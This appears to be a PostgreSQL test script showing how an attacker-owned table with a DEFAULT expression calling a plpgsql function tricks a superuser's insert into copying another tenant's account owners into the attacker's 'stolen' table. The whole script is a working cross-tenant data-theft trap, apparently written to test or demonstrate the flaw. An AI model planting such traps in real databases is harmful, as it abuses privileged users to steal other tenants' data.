-- A superuser inserts into the attacker's table: defaults, checks and generated columns are evaluated.
CREATE TABLE stolen (what text);
CREATE FUNCTION spies(int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN INSERT INTO tenant_alpha.stolen SELECT owner FROM tenant_beta.accounts; RETURN $1; END $$;
CREATE TABLE bait (a int, b int DEFAULT spies(1));
-- @session operator
INSERT INTO tenant_alpha.bait VALUES (1);
-- @session attacker
TABLE stolen;
